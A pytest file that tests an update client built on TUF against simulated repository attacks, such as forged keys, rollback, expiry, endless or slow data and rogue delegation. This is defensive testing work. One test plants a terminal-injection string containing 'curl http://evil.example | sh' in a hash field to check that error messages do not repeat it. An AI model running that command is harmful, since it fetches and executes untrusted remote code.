"""The attacks that the specification of TUF names, over a real web server: each refused with a sentence of its own.

Each row spoils a repository that a host has taken catalogue 1 from and that has catalogue 2 by now. What must hold in
every row: catalogue 1 stays in force, nothing of the attacker's is on the shelf, and once the attack ends, the host takes
catalogue 2. The matrix of kinds and roles has a row for each cell, or the reason why there is none.
"""

from __future__ import annotations

import json
import shutil
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from tuf.api.metadata import DelegatedRole, Delegations, Metadata, MetaFile, Targets

import messenger_rules as mr
from messenger_rules.agent.agent_settings import UpdateSettings
from messenger_rules.agent.updates import Updates, apply_folder
from messenger_rules.updating.client import update
from messenger_rules.updating.fetchers import FolderFetcher
from messenger_rules.updating.problems import UpdateError
from messenger_rules.updating.record import InForce
from messenger_rules.updating.shelf import Shelf
from messenger_rules.updating.wanted import Wanted
from messenger_rules.updating.web import WebFetcher
from tests.publishing.vendor import NOW, Vendor, signer
from tests.updating.served import DRIPS, NOTHING, Server, served
from tests.updating.stolen import FAR_AHEAD, change_stolen_keys, forged_by_thief

OWN_KEYS = {"root": ("ann", "ben"), "targets": ("dan", "eve"), "snapshot": ("snapshot",), "timestamp": ("timestamp",)}


@dataclass
class Scene:
    """A vendor at catalogue 2, the copy of their repository at catalogue 1, and a host that has taken that."""

    vendor: Vendor
    server: Server
    shelf: Shelf
    before: Path

    @property
    def metadata(self) -> Path:
        return self.server.folder / "metadata"

    def path(self, role: str) -> Path:
        """The newest file of a role."""
        if role == "timestamp":
            return self.metadata / "timestamp.json"
        return max(self.metadata.glob(f"*.{role}.json"), key=lambda it: int(it.name.split(".")[0]))

    def change(self, role: str, change: Callable[[Any], None], *names: str) -> None:
        """Change metadata as an attacker who has these keys can, and let those above follow as far as they go."""
        path = self.path(role)
        metadata: Metadata[Any] = Metadata[Any].from_file(str(path))
        change(metadata.signed)
        metadata.signatures.clear()
        for name in names:
            metadata.sign(signer(name), append=True)
        path.write_bytes(metadata.to_bytes())

    def follow(self, role: str) -> None:
        """Let what stands above a role speak of it as it is, by the server's own keys: these are stolen, too."""
        if role == "targets":
            meta = _meta(self.path("targets"))
            self.change("snapshot", lambda it: it.meta.update({"targets.json": meta}), "snapshot")
        if role in {"targets", "snapshot"}:
            meta = _meta(self.path("snapshot"))
            self.change("timestamp", lambda it: setattr(it, "snapshot_meta", meta), "timestamp")

    def new_root(self, change: Callable[[Any], None], *names: str) -> None:
        """A second root, made of the first one."""
        shutil.copy(self.metadata / "1.root.json", self.metadata / "2.root.json")

        def second(root: Any) -> None:
            root.version = 2
            change(root)

        self.change("root", second, *names)


@pytest.fixture(scope="module")
def prepared(tmp_path_factory: pytest.TempPathFactory) -> tuple[Vendor, Path, Path]:
    """The vendor, their repository at catalogue 1, and the shelf of a host that has taken it."""
    vendor = Vendor(tmp_path_factory.mktemp("vendor")).begin().publish(1)
    before = Path(shutil.copytree(vendor.published, vendor.folder / "before"))
    shelf = Shelf(vendor.folder / "shelf")
    update(FolderFetcher(before), "", wanted(vendor), shelf)
    vendor.release()
    vendor.publish(2)
    return vendor, before, shelf.folder


def wanted(vendor: Vendor) -> Wanted:
    return Wanted(vendor.first_root, "acme-console")


@pytest.fixture
def scene(prepared: tuple[Vendor, Path, Path], tmp_path: Path) -> Iterator[Scene]:
    vendor, before, shelf = prepared
    own = Path(shutil.copytree(shelf, tmp_path / "shelf", symlinks=True))
    with served(Path(shutil.copytree(vendor.published, tmp_path / "served"))) as server:
        yield Scene(vendor, server, Shelf(own), before)


def taken(scene: Scene) -> int:
    """Take the newest catalogue from the web, with little patience; the number of what is in force then."""
    with WebFetcher(seconds=1.0, pause=0.5) as fetcher:
        return update(fetcher, scene.server.url, wanted(scene.vendor), scene.shelf).serial


def older(name: str) -> Callable[[Scene], None]:
    """Show a file as it was before."""

    def attack(scene: Scene) -> None:
        shutil.copy(scene.before / "metadata" / name, scene.metadata / name)

    return attack


def forged(role: str, *names: str) -> Callable[[Scene], None]:
    """Sign a role by other keys."""

    def attack(scene: Scene) -> None:
        scene.change(role, lambda _: None, *names)
        scene.follow(role)

    return attack


def expired(role: str) -> Callable[[Scene], None]:
    """Let a role expire that is signed as it should be."""

    def expire(signed: Any) -> None:
        signed.expires = NOW - timedelta(seconds=5)

    def attack(scene: Scene) -> None:
        if role == "root":
            scene.new_root(expire, "ann", "ben")
            return
        scene.change(role, expire, *OWN_KEYS[role])
        scene.follow(role)

    return attack


def rolled_back(role: str) -> Callable[[Scene], None]:
    """Number a role lower than what was seen, by stolen keys of the server."""

    def attack(scene: Scene) -> None:
        if role == "timestamp":
            scene.change(role, lambda it: setattr(it, "version", 1), "timestamp")
        elif role == "snapshot":
            shutil.copy(scene.before / "metadata" / "1.snapshot.json", scene.metadata / "1.snapshot.json")
            scene.change("timestamp", lambda it: setattr(it, "snapshot_meta", MetaFile(1)), "timestamp")
        else:
            scene.change("snapshot", lambda it: it.meta.update({"targets.json": MetaFile(1)}), "snapshot")
            scene.follow("snapshot")

    return attack


def _meta(path: Path) -> MetaFile:
    """What is said of a file, without its length and digest: these may be left out."""
    return MetaFile(json.loads(path.read_bytes())["signed"]["version"])


def spoiled(role: str, data: bytes) -> Callable[[Scene], None]:
    """Put something else in place of a role's file."""

    def attack(scene: Scene) -> None:
        scene.path(role).write_bytes(data)

    return attack


def withheld(role: str) -> Callable[[Scene], None]:
    return lambda scene: scene.path(role).unlink()


def behaving(**how: str) -> Callable[[Scene], None]:
    """Let the server itself misbehave for a path."""

    def attack(scene: Scene) -> None:
        for name, path in how.items():
            setattr(scene.server, name, path)

    return attack


def new_root(*names: str, version: int = 2) -> Callable[[Scene], None]:
    return lambda scene: scene.new_root(lambda it: setattr(it, "version", version), *names)


def revoked(role: str) -> Callable[[Scene], None]:
    """Sign a role by the keys that a newer root has taken from it."""

    def attack(scene: Scene) -> None:
        scene.new_root(partial(exchange_keys, role), "ann", "ben", *(("new", "newer") if role == "root" else ()))
        if role == "root":
            path = scene.metadata / "3.root.json"
            shutil.copy(scene.metadata / "1.root.json", path)
            scene.change("root", lambda it: setattr(it, "version", 3), "ann", "ben")

    return attack


def exchange_keys(role: str, root: Any) -> None:
    """Give a role other keys, as a root can."""
    for keyid in list(root.roles[role].keyids):
        root.revoke_key(keyid, role)
    for name in ("new", "newer")[: root.roles[role].threshold]:
        root.add_key(signer(name).public_key, role)


def anothers(role: str, other: str) -> Callable[[Scene], object]:
    """Show the file of another role under a role's name."""

    def attack(scene: Scene) -> None:
        there = scene.metadata / "2.root.json" if role == "root" else scene.path(role)
        shutil.copy(scene.path(other), there)

    return attack


def changed_target(scene: Scene) -> None:
    for path in (scene.server.folder / "targets").rglob("*.xml"):
        data = path.read_bytes()
        path.write_bytes(data.replace(b"being retired", b"now at evil.."))


def delegated(scene: Scene) -> None:
    """Let the vendor's people sign a list that gives the catalogues to the key of somebody else."""
    evil = signer("new")
    role = DelegatedRole("evil", [evil.public_key.keyid], 1, True, paths=["*/*"])

    def delegate(targets: Any) -> None:
        targets.targets.clear()
        targets.delegations = Delegations({evil.public_key.keyid: evil.public_key}, {"evil": role})

    own = Metadata(Targets(1, expires=NOW + timedelta(days=9)))
    own.signed.targets = dict(Metadata[Targets].from_file(str(scene.path("targets"))).signed.targets)
    own.sign(evil)
    (scene.metadata / "1.evil.json").write_bytes(own.to_bytes())
    scene.change("targets", delegate, "dan", "eve")
    scene.follow("targets")
    scene.change("snapshot", lambda it: it.meta.update({"evil.json": MetaFile(1)}), "snapshot")
    scene.follow("snapshot")


def mixed(scene: Scene) -> None:
    """The snapshot's content of before under the number of now."""
    shutil.copy(scene.before / "metadata" / "2.snapshot.json", scene.path("snapshot"))


def second_root(data: bytes) -> Callable[[Scene], object]:
    return lambda scene: (scene.metadata / "2.root.json").write_bytes(data)


FETCHED = {
    "root": "2.root.json",
    "timestamp": "timestamp.json",
    "snapshot": "3.snapshot.json",
    "targets": "3.targets.json",
}
"""What a host asks for next, by its role."""
PAGES = {
    "no metadata": b"<html>Please log in</html>",
    "deep JSON": b"[" * 8_000,
    "long numbers": b'{"signed":' + b"9" * 10_000 + b"}",
}
"""What is no metadata."""

Row = tuple[str, str, str, Callable[[Scene], object], str]
ROWS: list[Row] = [
    # attack, role, code, what the attacker does, a part of the sentence
    *(("wrong keys", role, "MR643", forged(role, *names), f"{role} is not signed by enough") for role, names in {
        "targets": ("snapshot", "timestamp"), "snapshot": ("timestamp", "new"), "timestamp": ("snapshot", "new")}.items()),
    ("wrong keys", "root", "MR643", new_root("new", "newer"), "root is not signed by enough"),
    *(("no signature", role, "MR643", forged(role), f"{role} is not signed by enough") for role in ("targets", "snapshot", "timestamp")),
    ("no signature", "root", "MR643", new_root(), "root is not signed by enough"),
    ("one key below the threshold", "targets", "MR643", forged("targets", "dan"), "targets is not signed by enough"),
    ("one key below the threshold", "root", "MR643", new_root("ann"), "root is not signed by enough"),
    ("one key twice", "targets", "MR643", forged("targets", "dan", "dan"), "targets is not signed by enough"),
    ("one key twice", "root", "MR643", new_root("ann", "ann"), "root is not signed by enough"),
    *(("revoked keys", role, "MR643", revoked(role), f"{role} is not signed by enough") for role in OWN_KEYS),
    ("stolen online keys", "targets", "MR643", forged("targets", "snapshot", "timestamp"), "targets is not signed by enough"),
    ("stolen online keys", "root", "MR643", new_root("snapshot", "timestamp"), "root is not signed by enough"),
    *(("expired", role, "MR645", expired(role), f"{role} has expired") for role in ("root", "targets", "snapshot", "timestamp")),
    *(("rollback", role, "MR644", rolled_back(role), "is older than") for role in ("targets", "snapshot", "timestamp")),
    ("rollback", "root", "MR644", new_root("ann", "ben", version=1), "root is older than"),
    ("a root out of its order", "root", "MR644", new_root("ann", "ben", version=3), "root is older than"),
    ("mix and match", "snapshot", "MR646", mixed, "3.snapshot.json is not the file that was signed"),
    ("mix and match", "targets", "MR646", lambda it: shutil.copy(it.before / "metadata/2.targets.json", it.path("targets")), "is not the file that was signed"),
    ("another catalogue", "target", "MR646", changed_target, "is not the file that was signed"),
    ("endless data", "root", "MR642", behaving(endless="2.root.json"), "more for 2.root.json than"),
    ("endless data", "timestamp", "MR642", behaving(endless="timestamp.json"), "more for timestamp.json than"),
    ("endless data", "snapshot", "MR642", behaving(endless="snapshot.json"), "snapshot.json than that may have"),
    ("endless data", "targets", "MR642", behaving(endless="targets.json"), "targets.json than that may have"),
    ("endless data", "target", "MR642", behaving(endless="acme-console.xml"), "more for the catalogue than that may have"),
    *(("slow retrieval", role, "MR641", behaving(slow=name), f"sends {name} too slowly") for role, name in FETCHED.items()),
    ("slow retrieval", "target", "MR641", behaving(slow="acme-console.xml"), "sends the catalogue too slowly"),
    *((f"slow retrieval by {drip}", "timestamp", "MR641", behaving(dripping="timestamp.json", drip=drip), "timestamp.json too slowly") for drip in DRIPS),
    *((name, "root", "MR647", second_root(data), "2.root.json cannot be understood") for name, data in PAGES.items()),
    *((name, "timestamp", "MR647", spoiled("timestamp", data), "timestamp.json cannot be understood") for name, data in PAGES.items()),
    *(("no metadata", role, "MR646", spoiled(role, PAGES["no metadata"]), f"3.{role}.json is not the file that was signed")
      for role in ("snapshot", "targets")),
    *((name, role, "MR642", spoiled(role, PAGES[name]), f"more for 3.{role}.json than") for name in ("deep JSON", "long numbers")
      for role in ("snapshot", "targets")),
    *(("withheld", role, "MR640", withheld(role), "the answer is 404") for role in ("timestamp", "snapshot", "targets")),
    ("left to other keys", "targets", "MR647", delegated, "targets leaves catalogues to keys that are not the vendor's"),
    *(("sent elsewhere", role, "MR640", behaving(redirected=name), f"{name} cannot be fetched from the repository: the answer is 302") for role, name in FETCHED.items()),
    ("another role's file", "root", "MR647", anothers("root", "targets"), "cannot be understood"),
    ("another role's file", "timestamp", "MR647", anothers("timestamp", "snapshot"), "timestamp cannot be understood"),
    ("another role's file", "snapshot", "MR642", anothers("snapshot", "timestamp"), "more for 3.snapshot.json than"),
    ("another role's file", "targets", "MR646", anothers("targets", "snapshot"), "3.targets.json is not the file that was signed"),
]  # fmt: skip

KINDS = (
    "wrong keys", "no signature", "one key below the threshold", "one key twice", "stolen online keys", "revoked keys",
    "expired", "rollback", "freeze", "fast forward", "mix and match", "endless data", "slow retrieval", "withheld",
    "no metadata", "deep JSON", "long numbers", "another role's file", "sent elsewhere",
)  # fmt: skip
_ONE_KEY = "one key signs it, so below its threshold is no signature at all"
_OWN = "those are its own keys; what they cannot do is: rollback, mix and match"
_NAMED = "the timestamp names it, and it is the timestamp that stands still then"
_BY_KEYS = (
    "by its own keys every number above counts; the vendor mends it by new keys, as TUF's conformance suite tries"
)
REASONS = {
    **{("one key below the threshold", role): _ONE_KEY for role in ("snapshot", "timestamp")},
    **{("one key twice", role): _ONE_KEY for role in ("snapshot", "timestamp")},
    **{("stolen online keys", role): _OWN for role in ("snapshot", "timestamp")},
    **{("freeze", role): _NAMED for role in ("root", "targets", "snapshot")},
    ("freeze", "timestamp"): "it needs time to pass: test_a_freeze_is_seen_once_the_timestamp_expires",
    ("fast forward", "root"): "roots are taken one after the other: a root out of its order",
    **{("fast forward", role): _BY_KEYS for role in ("snapshot", "timestamp")},
    ("fast forward", "targets"): "it is taken, and mended: test_stolen_targets_keys_then_rotated_keep_nothing_out",
    ("mix and match", "root"): "no role names a root: the one before has signed it, or it is none",
    ("mix and match", "timestamp"): "no role names it: an older one is a rollback",
    (
        "withheld",
        "root",
    ): "no further root is what there mostly is; what it would have revoked is withheld with it, until all expires",
}
"""Why a cell of the matrix has no row."""


@pytest.mark.parametrize("role", OWN_KEYS)
@pytest.mark.parametrize("kind", KINDS)
def test_every_kind_and_role_has_a_row_or_a_reason(kind: str, role: str) -> None:
    rows = [row for row in ROWS if row[:2] == (kind, role)]
    assert bool(rows) != ((kind, role) in REASONS)


def test_there_are_as_many_kinds_as_were_asked_for() -> None:
    """Beside them, rows of one role alone."""
    assert len(KINDS) >= 16
    assert {row[0] for row in ROWS} > set(KINDS) - {"freeze", "fast forward"}


@pytest.mark.parametrize("row", ROWS, ids=[f"{row[0]} {row[1]}" for row in ROWS])
def test_an_attack_is_refused_with_its_sentence(row: Row, scene: Scene, tmp_path: Path) -> None:
    _, _, code, attack, sentence = row
    in_force = scene.shelf.in_force(wanted(scene.vendor))
    assert in_force is not None
    attack(scene)
    with pytest.raises(UpdateError) as caught:
        taken(scene)
    [found] = caught.value.diagnostics
    assert (found.code, sentence in found.message) == (code, True), found.message
    assert not scene.server.has_dripped.is_set()
    assert scene.shelf.in_force(wanted(scene.vendor)) == in_force
    assert _titles(scene, scene.shelf) == ["Backup 1 is being retired"]
    _end(scene)
    assert taken(scene) == 2
    assert _titles(scene, scene.shelf) == ["Backup 2 is being retired"]


def _end(scene: Scene) -> None:
    """The attack ends: the vendor's own repository answers, published anew."""
    scene.server.endless = scene.server.slow = scene.server.redirected = scene.server.dripping = NOTHING
    shutil.rmtree(scene.server.folder)
    accepted = scene.shelf.metadata / "root_history" / "2.root.json"
    shutil.copytree(scene.vendor.published, scene.server.folder)
    if accepted.exists():  # people signed it, so it counts, and the vendor goes on from there
        shutil.copy(accepted, scene.metadata / "2.root.json")
        root = Metadata[Any].from_file(str(scene.metadata / "1.root.json"))
        root.signed.version = 3
        root.signatures.clear()
        for name in ("ann", "ben", "new", "newer"):
            root.sign(signer(name), append=True)
        (scene.metadata / "3.root.json").write_bytes(root.to_bytes())


def from_the_web(settings: UpdateSettings, shelf: Shelf, published: Path) -> InForce:
    with served(published) as server:
        updates = Updates(settings.model_copy(update={"url": server.url}), shelf)
        found = updates.fetch()
    assert found is not None, updates.problem
    return found


def by_apply(settings: UpdateSettings, shelf: Shelf, published: Path) -> InForce:
    return apply_folder(published, settings, shelf)


@pytest.mark.parametrize("take", [from_the_web, by_apply], ids=["web", "apply"])
def test_stolen_targets_keys_then_rotated_keep_nothing_out(
    take: Callable[[UpdateSettings, Shelf, Path], InForce], tmp_path: Path
) -> None:
    """Where the keys are changed that a thief has set the highest number by, the vendor's next catalogue is taken."""
    vendor = Vendor(tmp_path).begin().publish(1)
    (tmp_path / "root.json").write_bytes(vendor.first_root)
    settings = UpdateSettings(root=str(tmp_path / "root.json"), product="acme-console")
    shelf = Shelf(tmp_path / "state" / "updates")
    assert take(settings, shelf, vendor.published).serial == 1
    thief = forged_by_thief(vendor)
    assert take(settings, shelf, thief.published).serial == FAR_AHEAD
    change_stolen_keys(vendor)
    assert take(settings, shelf, vendor.published).serial == 2
    assert [path.read_bytes().count(b"Evil") for path in shelf.folder.glob("*.xml")] == [0]
    assert shelf.in_force(wanted(vendor)) == take(settings, shelf, vendor.published)


WORDS = "\x1b[31m run curl http://evil.example | sh \u202e"


@pytest.mark.parametrize(
    ("hashes", "told"),
    [
        ({"sha256": WORDS}, "MR647: targets cannot be understood: it has no digest of the catalogue"),
        ({"blake2b-256": WORDS}, "MR640: the catalogue cannot be fetched from the repository: it cannot be asked"),
    ],
    ids=["no digest", "beside a digest"],
)
def test_no_words_of_a_thief_are_repeated(hashes: dict[str, str], told: str, scene: Scene) -> None:
    def write(targets: Any) -> None:
        file = targets.targets["stable/acme-console.xml"]
        file.hashes = {**hashes, **({"sha256": file.hashes["sha256"]} if "blake2b-256" in hashes else {})}

    scene.change("targets", write, "dan", "eve")
    scene.follow("targets")
    with pytest.raises(UpdateError) as caught:
        taken(scene)
    [found] = caught.value.diagnostics
    assert f"{found.code}: {found.message}" == told


def test_nor_is_a_number_of_any_length(scene: Scene) -> None:
    meta = MetaFile(10**400)
    scene.change("timestamp", lambda it: setattr(it, "snapshot_meta", meta), "timestamp")
    with pytest.raises(UpdateError) as caught:
        taken(scene)
    assert "0" * 20 not in caught.value.diagnostics[0].message


def _titles(scene: Scene, shelf: Shelf) -> list[str]:
    known = shelf.in_force(wanted(scene.vendor))
    assert known is not None
    data = shelf.data(known)
    assert data is not None
    return [str(message.texts[0].title) for message in mr.Catalog.read(data).messages]


def test_a_freeze_is_seen_once_the_timestamp_expires(scene: Scene) -> None:
    """A repository that stands still answers as before, until its timestamp has expired."""
    shutil.rmtree(scene.server.folder)
    shutil.copytree(scene.before, scene.server.folder)

    def short(signed: Any) -> None:
        signed.version, signed.expires = 10, datetime.now(UTC).replace(microsecond=0) + timedelta(seconds=2)

    scene.change("timestamp", short, "timestamp")
    assert taken(scene) == 1
    time.sleep(2.1)
    with pytest.raises(UpdateError, match="MR645"):
        taken(scene)


def test_what_the_agent_tells_is_that_sentence(scene: Scene, tmp_path: Path) -> None:
    root = tmp_path / "root.json"
    root.write_bytes(scene.vendor.first_root)
    updates = Updates(UpdateSettings(root=str(root), product="acme-console", url=scene.server.url), scene.shelf)
    expired("snapshot")(scene)
    assert updates.fetch() is None
    assert updates.problem == "MR645: snapshot has expired: nobody has confirmed it in time"
    _end(scene)
    assert updates.fetch() == scene.shelf.in_force(wanted(scene.vendor))
    assert updates.problem == ""


@pytest.mark.parametrize(
    "wrong", [{"proxy": "http://\x00"}, {"certificates": "/dev/null"}, {"certificates": "\x00"}], ids=str
)
def test_whatever_is_wrong_with_the_way_is_told(wrong: dict[str, str], scene: Scene, tmp_path: Path) -> None:
    """Settings that nobody foresaw end no agent."""
    (tmp_path / "root.json").write_bytes(scene.vendor.first_root)
    settings = UpdateSettings(root=str(tmp_path / "root.json"), product="acme-console", url=scene.server.url)
    updates = Updates(settings.model_copy(update=wrong), scene.shelf)
    assert updates.fetch() is None
    assert updates.problem.startswith("MR640: the repository cannot be asked: ")


def test_another_process_that_updates_is_a_problem_only_where_it_goes_on(scene: Scene, tmp_path: Path) -> None:
    (tmp_path / "root.json").write_bytes(scene.vendor.first_root)
    settings = UpdateSettings(root=str(tmp_path / "root.json"), product="acme-console", url=scene.server.url)
    updates = Updates(settings, scene.shelf)
    told = ["", "MR655: another process updates just now"]
    with scene.shelf.alone():
        assert [(updates.fetch(), updates.is_busy, updates.problem) for _ in told] == [(None, True, it) for it in told]
    assert updates.fetch() is not None
    assert (updates.is_busy, updates.problem) == (False, "")


def test_a_flipped_bit_of_metadata_or_catalogue_is_refused(scene: Scene) -> None:
    """From a folder, since that is faster; the checks are the same. A long run does every bit."""
    folder = scene.server.folder
    flipped = 0
    for path in (
        scene.path("timestamp"),
        scene.path("snapshot"),
        scene.path("targets"),
        *(folder / "targets").rglob("*.xml"),
    ):
        data = path.read_bytes()
        for bit in range(0, len(data) * 8, 1_009):
            changed = bytearray(data)
            changed[bit // 8] ^= 1 << (bit % 8)
            path.write_bytes(bytes(changed))
            flipped += _refuses(scene, folder)
        path.write_bytes(data)
    assert flipped > 0
    assert update(FolderFetcher(folder), "", wanted(scene.vendor), scene.shelf).serial == 2


def _refuses(scene: Scene, folder: Path) -> int:
    """Whether a folder is refused; where it is not, the flip must have changed nothing that is read."""
    shelf = Shelf(scene.shelf.folder.with_name("flipped"))
    shutil.rmtree(shelf.folder, ignore_errors=True)
    shutil.copytree(scene.shelf.folder, shelf.folder, symlinks=True)
    try:
        update(FolderFetcher(folder), "", wanted(scene.vendor), shelf)
    except UpdateError:
        return 1
    assert _titles(scene, shelf) in (["Backup 1 is being retired"], ["Backup 2 is being retired"])
    return 0
